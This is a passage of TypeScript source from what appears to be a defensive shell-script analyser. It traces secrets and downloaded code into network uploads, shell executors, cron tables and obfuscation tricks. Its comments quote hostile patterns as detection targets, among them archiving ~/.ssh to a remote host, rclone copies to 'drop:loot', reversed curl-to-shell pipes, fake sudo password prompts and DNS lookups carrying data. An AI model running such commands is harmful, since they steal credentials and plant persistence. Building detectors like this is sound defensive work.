      const share = texts.slice(1).map(unquote).find((text) => /^(?:\/\/|\\\\)[\w.-]+/.test(text));
      const host = share?.replace(/^(?:\/\/|\\\\)([\w.-]+).*$/, '$1');
      const commandsAt = texts.findIndex((text) => text === '-c' || text === '--command');
      const commands = commandsAt > 0 ? words[commandsAt + 1]?.value.text : undefined;
      if (host && !isLocalHost(host) && commands !== undefined) {
        const sink = this.recorder.sink('command', `\`smbclient\` to ${host}`, node.startIndex, node.endIndex, host);
        for (const put of commands.matchAll(/(?:^|;)[ \t]*m?put[ \t]+("[^"]+"|\S+)/g)) {
          this.reachSink(this.recorder.readFile(unquote(put[1] ?? ''), node.startIndex, node.endIndex), sink, 'payload');
        }
      }
      return EMPTY;
    }
    if (/^(?:scp|sftp|rsync)$/.test(program)) {
      const remote = texts.slice(1).find((text) => /^[^/\s]*@?[\w.-]+:/.test(text) && !/^[a-z]+:\/\//i.test(text));
      if (remote) {
        const host = remote.replace(/:.*$/, '').replace(/^.*@/, '');
        const sink = this.recorder.sink('command', `\`${program}\` to ${host}`, node.startIndex, node.endIndex, host);
        for (const word of words.slice(1)) {
          if (word.value.text === remote) continue;
          this.reachSink(union(word.value, this.recorder.readFile(word.value.text, word.node.startIndex, word.node.endIndex)), sink, 'payload');
        }
      }
      return EMPTY;
    }
    // Executors. The text of what they run, where it is known, is scanned again as code.
    if (program === 'eval') {
      const code = spaced(words.slice(1));
      this.runsText(node, '`eval`', code, 'command.sh');
      return EMPTY;
    }
    // `trap 'ACTION' EXIT INT …` runs ACTION in this shell when a signal arrives or the script ends.
    if (program === 'trap') {
      const action = words.findIndex((word, index) => index > 0 && word.value.text !== '--');
      const text = texts[action] ?? '';
      if (action > 0 && action < words.length - 1 && text !== '-' && !/^-[lp]$/.test(text)) this.runsText(node, '`trap`', words[action]?.value ?? EMPTY, 'command.sh');
      return EMPTY;
    }
    // `git config core.fsmonitor 'CMD'`: git runs the value in a shell later, on every status.
    if (program === 'git' && texts[1] === 'config') {
      let at = 2;
      while (at < words.length && (texts[at] ?? '').startsWith('-')) at += GIT_CONFIG_VALUE_OPTION.test(texts[at] ?? '') ? 2 : 1;
      const key = (texts[at] ?? '').toLowerCase();
      const value = words[at + 1]?.value;
      const command = value?.text === undefined ? undefined : GIT_COMMAND_SETTING.test(key) ? value.text : GIT_BANG_SETTING.test(key) && value.text.startsWith('!') ? value.text.slice(1) : undefined;
      if (value && command !== undefined) this.runsText(node, `\`git config ${key}\``, withText(value, command), 'command.sh');
      return EMPTY;
    }
    // tmux hands its last operand to a shell: `tmux new-session -d 'CMD'`, `run-shell`, `split-window`.
    if (program === 'tmux') {
      const sub = texts.findIndex((text, index) => index > 0 && TMUX_SHELL_COMMANDS.has(text));
      const last = words[words.length - 1];
      if (sub > 0 && last && words.length - 1 > sub && !/^-[tscnFeRxylw]$/.test(texts[words.length - 2] ?? '')) this.runsText(node, `\`tmux ${texts[sub] ?? ''}\``, last.value, 'command.sh');
      return EMPTY;
    }
    // GNU parallel runs its command template in a shell once per input; with no template
    // (`parallel ::: 'CMD' …`), each input is the command.
    if (program === 'parallel') {
      let first = 1;
      while (first < words.length && (texts[first] ?? '').startsWith('-') && texts[first] !== ':::') first += PARALLEL_VALUE_OPTION.test(texts[first] ?? '') ? 2 : 1;
      const inputs = texts.indexOf(':::', first);
      const commands = first === inputs ? words.slice(inputs + 1).map((word) => word.value) : [spaced(words.slice(first, inputs > 0 ? inputs : undefined))];
      for (const command of commands) this.runsText(node, '`parallel`', command, 'command.sh');
      return EMPTY;
    }
    // `at` and `batch` run the commands they read on stdin later, in a shell.
    if ((program === 'at' || program === 'batch') && !texts.some((text) => /^-[lrdcf]$/.test(text))) {
      this.runsText(node, `\`${program}\``, stdin, 'command.sh');
      return EMPTY;
    }
    // `(crontab -l; echo "*/10 * * * * CMD") | crontab -`: the table read on standard input replaces the user's.
    if (installsCronTableFromStdin(texts)) {
      this.recorder.writeFile(USER_CRON_TABLE_PATH, stdin, node.startIndex, node.endIndex);
      return EMPTY;
    }
    if (SHELLS.test(program) || INTERPRETERS.test(program)) {
      const inline = inlineProgramFlag(texts);
      const code = inline > 0 ? words[inline + 1] : undefined;
      if (program === 'source' || program === '.') {
        // `source /dev/stdin < <(curl …)`: the file it reads is its standard input.
        if (words.length === 1 || /^(?:\/dev\/stdin|\/dev\/fd\/0|\/proc\/self\/fd\/0)$/.test(texts[1] ?? '')) this.executor(node, `\`${program}\``, stdin);
        else this.executor(node, `\`${program}\``, words[1]?.value ?? EMPTY);
      } else if (readsProgramFromStdin(texts)) {
        this.runsText(node, `\`${program}\``, stdin, programFileName(program));
      } else if (code) {
        this.runsText(node, `\`${program} ${texts[inline] ?? ''}\``, withPositionals(code.value, texts.slice(inline + 2), SHELLS.test(program)), programFileName(program));
      }
      return EMPTY;
    }
    if (/^(?:tar|zip|7z)$/.test(program)) {
      // An archive of sensitive files carries their content under the archive's name.
      // A tar's first word is its mode (`cz`, `-czf`), not a file.
      const operands = words.slice(program === 'tar' ? 2 : 1).filter((word) => !(word.value.text ?? '').startsWith('-'));
      // `tar` with no `f` writes the archive to standard output (`tar cz ~/.ssh | ssh host …`).
      const archiveFlag = program === 'tar' ? words.findIndex((word) => /^-?[a-z]*f$/.test(word.value.text ?? '')) : 0;
      const archive = program === 'tar' ? (archiveFlag > 0 ? words[archiveFlag + 1] : undefined) : operands[0];
      const inputs = operands.filter((word) => word !== archive);
      const content = union(...inputs.map((word) => this.recorder.readFile(word.value.text, word.node.startIndex, word.node.endIndex)));
      if (archive && archive.value.text !== '-') this.recorder.writeFile(archive.value.text, content, node.startIndex, node.endIndex);
      return archive?.value.text === '-' || archive === undefined ? content : EMPTY;
    }
    if (/^(?:cp|mv|install)$/.test(program) && words.length >= 3) {
      const destination = words[words.length - 1];
      const content = union(...words.slice(1, -1).map((word) => this.recorder.readFile(word.value.text, word.node.startIndex, word.node.endIndex)));
      if (destination) this.recorder.writeFile(destination.value.text, content, node.startIndex, node.endIndex);
      return EMPTY;
    }
    if (program === 'echo') {
      const args = words.slice(1);
      while (args.length > 1 && /^-[neE]{1,3}$/.test(args[0]?.value.text ?? '')) args.shift();
      return spaced(args);
    }
    if (program === 'printf') return printed(words.slice(1));
    // `tr 'a-z' 'n-za-m'` (rot13) and other letter maps turn a known text into another.
    if (program === 'tr' && words.length === 3 && stdin.text !== undefined) {
      const translated = translate(stdin.text, texts[1] ?? '', texts[2] ?? '');
      if (translated !== undefined) return withText(stdin, translated);
    }
    // `rev` turns each line around: `echo "hs | x/… lruc" | rev | sh`.
    if (program === 'rev' && words.length === 1) return stdin.text === undefined ? stdin : withText(stdin, stdin.text.split('\n').map((line) => [...line].reverse().join('')).join('\n'));
    if (FILTERS.test(program)) {
      const reads = words.slice(1).filter((word) => !(word.value.text ?? '-').startsWith('-'));
      // `cat` alone passes its input on unchanged; `tee FILE` also writes it to FILE.
      if (program === 'cat' && reads.length === 0) return stdin;
      if (program === 'tee') {
        for (const word of reads) this.recorder.writeFile(word.value.text, stdin, node.startIndex, node.endIndex);
        return stdin;
      }
      // Filters that keep or drop whole lines pass on what the lines are (`find … | head`).
      if (LINE_FILTERS.test(program) && reads.length === (program === 'grep' || program === 'egrep' || program === 'fgrep' || program === 'rg' ? 1 : 0)) return stdin;
      return union(stdin, ...reads.map((word) => union(word.value, this.recorder.readFile(word.value.text, word.node.startIndex, word.node.endIndex))));
    }
    return EMPTY;
  }

  /**
   * `read -s -p "[sudo] password for $USER: " p`: a prompt without echo worded as the system's
   * gives its variables the login password. Other reads leave their variables as they were.
   */
  private silentRead(node: Node, words: readonly { node: Node; value: AbstractValue }[]): void {
    let silent = false;
    let prompt = '';
    const names: string[] = [];
    for (let index = 1; index < words.length; index++) {
      const text = words[index]?.node.text ?? '';
      if (/^-[a-zA-Z]+$/.test(text)) {
        if (text.includes('s')) silent = true;
        // An option that takes a value (-p, -t, -n, -N, -d, -u, -a, -i) takes the next word when it ends the group.
        if (/[ptnNduai]$/.test(text)) {
          if (text.endsWith('p')) prompt = words[index + 1]?.node.text ?? '';
          index++;
        }
        continue;
      }
      names.push(text);
    }
    const source = silent ? systemPasswordPrompt(prompt) : undefined;
    if (!source) return;
    for (const name of names) this.scope.set(name, { labels: [this.recorder.label(source, node.startIndex, node.endIndex)], params: 0 });
  }

  /** An executor given its program as text: what it runs is followed, and its text is scanned again as `scanAs`. */
  private runsText(node: Node, description: string, code: AbstractValue, scanAs: string): void {
    this.executor(node, description, code);
    this.recorder.programText(code, node.startIndex, node.endIndex, scanAs);
  }

  private executor(node: Node, description: string, code: AbstractValue): void {
    // A download piped or substituted straight into the executor (`curl … | sh`,
    // `bash -c "$(curl …)"`) is SKL501's finding; here only downloads kept in a variable or file,
    // and those whose program is named by a computed expansion, which SKL501's patterns cannot read.
    this.executorReach(node, description, code, this.statementRange, (label) => this.expandedPrograms.has(label.start));
  }

  /**
   * The GitHub CLI publishes what it is given: `gh gist create FILE…`, `gh release upload TAG
   * FILE…`, the body or notes of an issue, pull request, comment or release (`--body TEXT`,
   * `--body-file FILE`, `-F -` for stdin), and `gh api` fields (`-f key=TEXT`, `-F key=@FILE`,
   * `--input FILE`). Each reaches the GitHub account the CLI is signed in to, or a repository the
   * skill names.
   */
  private githubUpload(node: Node, words: readonly { node: Node; value: AbstractValue }[], stdin: AbstractValue): void {
    const texts = words.map((word) => word.value.text ?? '*');
    const [, group, action] = texts;
    const repository = texts[texts.findIndex((text) => text === '--repo' || text === '-R') + 1];
    const sink = this.recorder.sink('network', `\`gh ${group ?? ''}\`${repository && texts.includes('--repo') ? ` to ${repository}` : ' to GitHub'}`, node.startIndex, node.endIndex, 'github.com');
    const fileValue = (index: number): AbstractValue => {
      const word = words[index];
      if (!word) return EMPTY;
      return word.value.text === '-' ? stdin : union(word.value, this.recorder.readFile(word.value.text, word.node.startIndex, word.node.endIndex));
    };
    if ((group === 'gist' && action === 'create') || (group === 'release' && action === 'upload')) {
      const first = group === 'gist' ? 3 : 4;
      for (let index = first; index < words.length; index++) {
        const text = texts[index] ?? '';
        if (text.startsWith('-')) {
          if (/^(?:-d|--desc|-f|--filename|-R|--repo)$/.test(text)) index++;
          continue;
        }
        this.reachSink(fileValue(index), sink, 'payload');
      }
      // `gh gist create` with no file reads stdin.
      if (group === 'gist' && !texts.slice(3).some((text) => !text.startsWith('-'))) this.reachSink(stdin, sink, 'payload');
      return;
    }
    // `gh secret set NAME --body "$TOKEN"` stores a secret in the user's repository, encrypted:
    // what it is for, not a leak. Only what is published in text is followed.
    if (group !== 'issue' && group !== 'pr' && group !== 'api' && group !== 'release' && group !== 'discussion') return;
    for (let index = 2; index < words.length; index++) {
      const text = texts[index] ?? '';
      if (/^(?:-b|--body|-t|--title|-n|--notes)$/.test(text)) this.reachSink(words[index + 1]?.value ?? EMPTY, sink, 'payload');
      else if (/^(?:--body-file|--notes-file|--input)$/.test(text) || (group !== 'api' && text === '-F')) this.reachSink(fileValue(index + 1), sink, 'payload');
      else if (group === 'api' && /^(?:-f|-F|--field|--raw-field)$/.test(text)) {
        const field = words[index + 1];
        const value = /^[^=]{1,60}=@(.+)$/s.exec(field?.value.text ?? '')?.[1];
        if (value === '-') this.reachSink(stdin, sink, 'payload');
        else if (value !== undefined && field) this.reachSink(union(field.value, this.recorder.readFile(value, field.node.startIndex, field.node.endIndex)), sink, 'payload');
        else if (field) this.reachSink(field.value, sink, 'payload');
      }
    }
  }

}

/**
 * `sh -c 'SCRIPT' NAME ARG…`: the script's `$0` is NAME and `$1`… the arguments after it, so
 * `sh -c '$0 -s URL | sh' curl` runs curl. Only known words are put in; other shells' programs
 * and interpreters' inline code keep their text.
 */
function withPositionals(code: AbstractValue, after: readonly string[], shell: boolean): AbstractValue {
  if (!shell || code.text === undefined || after.length === 0 || !code.text.includes('$')) return code;
  const known = after.map((word) => (word === '*' ? undefined : unquote(word)));
  const text = code.text.replace(/\$(?:\{([0-9])\}|([0-9]))|"\$[@*]"|\$[@*]/g, (whole: string, braced?: string, bare?: string) => {
    const digit = braced ?? bare;
    if (digit === undefined) return known.slice(1).every((word) => word !== undefined) ? known.slice(1).join(' ') : whole;
    return known[Number(digit)] ?? whole;
  });
  return text === code.text ? code : withText(code, text);
}

function programOf(text: string | undefined): string {
  return (text ?? '').replace(/^["']|["']$/g, '').replace(/^.*\//, '');
}

/** xargs options that take a value as the next word (`-I {}`, `-n 1`). */
const XARGS_OPTIONS_WITH_VALUE = /^(?:-[IinPLsdEae]|--(?:replace|max-args|max-procs|max-lines|max-chars|delimiter|eof|arg-file))$/;

/**
 * `… | xargs [options] dig {}.x.example`: the command xargs runs, with what it reads from stdin
 * as arguments: in place of the replacement string (`-I {}`), or appended. Undefined when xargs
 * names no command (it then runs `echo`, which the filters already cover).
 */
function xargsCommand(words: readonly { node: Node; value: AbstractValue }[], stdin: AbstractValue): { node: Node; value: AbstractValue }[] | undefined {
  let index = 1;
  let replace: string | undefined;
  while (index < words.length) {
    const text = words[index]?.value.text ?? '';
    if (!text.startsWith('-')) break;
    if (XARGS_OPTIONS_WITH_VALUE.test(text)) {
      if (text === '-I' || text === '-i' || text === '--replace') replace = words[index + 1]?.value.text ?? '{}';
      index += 2;
    } else {
      if (/^-I./.test(text)) replace = text.slice(2);
      else if (/^(?:-i|--replace)$/.test(text)) replace = '{}';
      index += 1;
    }
  }
  const command = words.slice(index);
  const first = command[0];
  if (!first) return undefined;
  if (replace !== undefined) {
    const marker = replace;
    return command.map((word, position) => {
      if (position === 0) return word;
      const text = word.value.text;
      if (text === undefined) return { node: word.node, value: union(word.value, stdin) };
      if (!text.includes(marker)) return word;
      // Written into the word where the marker stood, so a URL around it is known (`…?d={}`).
      const parts: StringPart[] = [];
      text.split(marker).forEach((literal, index) => {
        if (index > 0) parts.push({ value: stdin });
        if (literal !== '') parts.push({ literal });
      });
      // A known input (the path pattern `find` prints) is read where it stands: `-F f=@{}` uploads it.
      const folded = foldString(parts);
      return { node: word.node, value: withText(union(word.value, folded), stdin.text !== undefined && folded.text !== undefined ? folded.text : text) };
    });
  }
  return [...command, { node: first.node, value: stdin }];
}

/**
 * `find ~ -name "*.pem"` prints paths: its value is the folded pattern they match (the folder,
 * any depth, then the name), so a loop that uploads each one reads what the pattern names. Only
 * the first `-name`/`-iname` counts; without one the search names everything under its folder.
 */
function findResults(texts: readonly string[]): AbstractValue {
  const folder = texts[1] !== undefined && !texts[1].startsWith('-') && texts[1] !== '*' ? unquote(texts[1]) : '.';
  const nameAt = texts.findIndex((text) => text === '-name' || text === '-iname');
  const pattern = nameAt > 0 ? unquote(texts[nameAt + 1] ?? '*') : '*';
  return textValue(`${folder.replace(/\/+$/, '')}/**/${pattern}`);
}

/**
 * `aws s3 cp file s3://bucket/…`, `gsutil cp file gs://…`, `az storage blob upload --file f …`:
 * a local file copied to a storage bucket. Returns the index of the source word and the bucket.
 */
function bucketUpload(texts: readonly string[]): { readonly source: number; readonly bucket: string } | undefined {
  const program = texts[0] ?? '';
  if ((program === 'aws' && texts[1] === 's3' && /^(?:cp|mv|sync)$/.test(texts[2] ?? '')) || ((program === 'gsutil' || program === 'gcloud') && texts.includes('cp'))) {
    const operands = texts.map((text, index) => ({ text: unquote(text), index })).filter(({ text, index }) => index > 1 && !text.startsWith('-') && text !== 'cp' && text !== 'storage');
    const destination = operands[operands.length - 1];
    const source = operands.length >= 2 ? operands[operands.length - 2] : undefined;
    if (!destination || !source || !/^(?:s3|gs):\/\//.test(destination.text) || /^(?:s3|gs):\/\//.test(source.text)) return undefined;
    return { source: source.index, bucket: destination.text.replace(/^((?:s3|gs):\/\/[^/]+).*$/, '$1') };
  }
  // `rclone copy ~/.ssh drop:loot`: a remote named in the user's rclone config.
  if (program === 'rclone' && /^(?:copy|copyto|sync|move|moveto)$/.test(texts[1] ?? '')) {
    const operands = texts.map((text, index) => ({ text: unquote(text), index })).filter(({ text, index }) => index > 1 && !text.startsWith('-'));
    const destination = operands[operands.length - 1];
    const source = operands.length >= 2 ? operands[operands.length - 2] : undefined;
    const remote = /^([\w.-]{1,60}):/.exec(destination?.text ?? '')?.[1];
    if (!source || !remote || /^[\w.-]{1,60}:/.test(source.text)) return undefined;
    return { source: source.index, bucket: `${remote}:` };
  }
  if (program === 'az' && texts[1] === 'storage' && texts[2] === 'blob' && texts[3] === 'upload') {
    const file = texts.findIndex((text) => text === '--file' || text === '-f');
    const account = texts[texts.findIndex((text) => text === '--account-name') + 1] ?? 'an Azure storage account';
    return file > 0 ? { source: file + 1, bucket: account } : undefined;
  }
  return undefined;
}

/** Stdin fed from one more place; a first source keeps its text (what a shell reading it runs). */
function fed(input: AbstractValue, value: AbstractValue): AbstractValue {
  return input === EMPTY ? value : union(input, value);
}

/** The characters of a `tr` set with its ranges spelled out (`a-z`, `[:lower:]`); undefined when it holds anything else. */
function trSet(set: string): string[] | undefined {
  const expanded = set.replace(/\[:lower:\]/g, 'a-z').replace(/\[:upper:\]/g, 'A-Z').replace(/\[:digit:\]/g, '0-9');
  if (expanded.length > 200 || /[\\[]/.test(expanded)) return undefined;
  const characters: string[] = [];
  for (let index = 0; index < expanded.length; index++) {
    const from = expanded[index] ?? '';
    const to = expanded[index + 2];
    if (expanded[index + 1] === '-' && to !== undefined && to >= from) {
      for (let code = from.charCodeAt(0); code <= to.charCodeAt(0); code++) characters.push(String.fromCharCode(code));
      index += 2;
    } else characters.push(from);
  }
  return characters;
}

/** `text` passed through `tr FROM TO`, or undefined when a set is one this does not read. */
function translate(text: string, from: string, to: string): string | undefined {
  const source = trSet(from);
  const target = trSet(to);
  if (!source || !target || target.length === 0) return undefined;
  const map = new Map<string, string>();
  source.forEach((character, index) => map.set(character, target[Math.min(index, target.length - 1)] ?? character));
  return [...text].map((character) => map.get(character) ?? character).join('');
}

/** The host an `ssh` destination names (`user@host` gives `host`), if it is known. */
function sshHost(destination: string): string | undefined {
  return destination === '*' ? undefined : destination.replace(/^[^@]*@/, '');
}

function isLocalHost(host: string): boolean {
  return /^(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|::1)$/i.test(host);
}

/** Words joined with spaces, as `echo` and `eval` join their arguments. */
function spaced(words: readonly { readonly value: AbstractValue }[]): AbstractValue {
  const parts: StringPart[] = [];
  words.forEach((word, index) => {
    if (index > 0) parts.push({ literal: ' ' });
    parts.push({ value: word.value });
  });
  return foldString(parts);
}

const SPLIT_EXPANSIONS: ReadonlySet<string> = new Set(['simple_expansion', 'expansion', 'command_substitution']);

/**
 * An unquoted expansion is split into words at blanks, as the shell does: `x=$(printf 'curl -s
 * https://…'); $x | sh` runs `curl` with two arguments. A quoted one, or one whose text is not
 * known, stays one word.
 */
function splitWord(node: Node, inner: Node, value: AbstractValue): { node: Node; value: AbstractValue }[] {
  const text = value.text;
  if (!SPLIT_EXPANSIONS.has(inner.type) || text === undefined || !/[ \t\n]/.test(text.trim())) return [{ node, value }];
  return text
    .trim()
    .split(/[ \t\n]+/)
    .map((part) => ({ node, value: withText(value, part) }));
}

/** The backslash escapes `printf` reads in its format and in a `%b` argument: `\n`, `\x63`, `\0143`. */
function printfEscapes(text: string): string {
  return text.replace(/\\(?:x([0-9a-fA-F]{1,2})|0?([0-7]{1,3})|(.))/gs, (_all, hex: string | undefined, octal: string | undefined, other: string | undefined) => {
    if (hex !== undefined) return String.fromCharCode(Number.parseInt(hex, 16));
    if (octal !== undefined) return String.fromCharCode(Number.parseInt(octal, 8) & 0xff);
    return other === 'n' ? '\n' : other === 't' ? '\t' : other === 'r' ? '\r' : (other ?? '');
  });
}

/**
 * What `printf FORMAT ARG…` prints: each `%s`, `%b` or `%d` of a known format takes the next
 * argument (a `%b` argument with its escapes read), and the format's escapes are read. Arguments
 * past the conversions still count for what the output carries.
 */
function printed(args: readonly { readonly value: AbstractValue }[]): AbstractValue {
  const format = args[0]?.value.text;
  if (format === undefined || format === '-v') return spaced(args);
  const parts: StringPart[] = [];
  let next = 1;
  for (const piece of format.split(/(%[-+ 0#]*[0-9]*[sbdq]|%%)/)) {
    if (/^%[-+ 0#]*[0-9]*[sbdq]$/.test(piece)) {
      const arg = args[next++];
      if (!arg) continue;
      parts.push({ value: piece.endsWith('b') && arg.value.text !== undefined ? withText(arg.value, printfEscapes(arg.value.text)) : arg.value });
    } else if (piece === '%%') parts.push({ literal: '%' });
    else if (piece !== '') parts.push({ literal: printfEscapes(piece) });
  }
  const printedText = foldString(parts);
  return next >= args.length ? printedText : union(printedText, ...args.slice(next).map((arg) => arg.value));
}
